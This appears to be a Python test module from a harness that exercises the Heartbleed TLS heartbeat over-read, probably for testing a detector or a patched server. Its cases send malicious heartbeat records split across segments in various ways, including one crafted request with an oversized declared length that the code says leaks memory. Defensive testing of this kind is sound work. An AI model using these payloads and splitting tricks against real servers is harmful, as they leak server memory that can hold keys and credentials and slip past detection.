# SPDX-License-Identifier: GPL-2.0
"""Records, cut and joined."""

import victim as tls
from attacker import Attack, high

from .case import CLIENT, EVERYWHERE, IN_THE_CLEAR, case, filler


@case(*EVERYWHERE)
def plain(attack: Attack) -> None:
    """One segment."""
    attack.begin()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def one_byte_segments(attack: Attack) -> None:
    """One byte per segment."""
    attack.begin()
    for byte in attack.heartbeat:
        attack.send(bytes([byte]))


def split_case(at: int) -> None:
    """Adds the case that cuts the record after byte `at`."""

    def split(attack: Attack) -> None:
        attack.begin()
        attack.send(attack.heartbeat[:at])
        attack.sync()
        attack.send(attack.heartbeat[at:])

    split.__name__ = f"split_after_byte_{at}"
    case(*IN_THE_CLEAR)(split)


for place in range(1, 8):
    split_case(place)


@case(*IN_THE_CLEAR)
def after_alert(attack: Attack) -> None:
    """A warning and the heartbeat in one segment, as masscan sends it."""
    attack.begin()
    attack.send(tls.record(tls.ALERT, b"\x01\x00") + attack.heartbeat)


@case(*EVERYWHERE)
def after_application_data(attack: Attack) -> None:
    """Application data and the heartbeat in one segment."""
    attack.begin()
    attack.send(filler(69) + attack.heartbeat)


@case(CLIENT)
def after_client_hello(attack: Attack) -> None:
    """ClientHello and the heartbeat in one segment."""
    attack.open()
    attack.send(tls.hello(tls.CLIENT_HELLO) + attack.heartbeat)


@case(*IN_THE_CLEAR)
def before_any_hello(attack: Attack) -> None:
    """The first bytes of the connection."""
    attack.open()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def request_of_16_kib(attack: Attack) -> None:
    """A request as long as the records of its answer. The later ones of these leak."""
    attack.begin()
    body = b"\x01\xff\xff" + high((1 << 14) - 3)
    attack.heartbeat = tls.record(
        tls.HEARTBEAT, tls.protect(body) if attack.setting.protected else body
    )
    attack.send(attack.heartbeat)
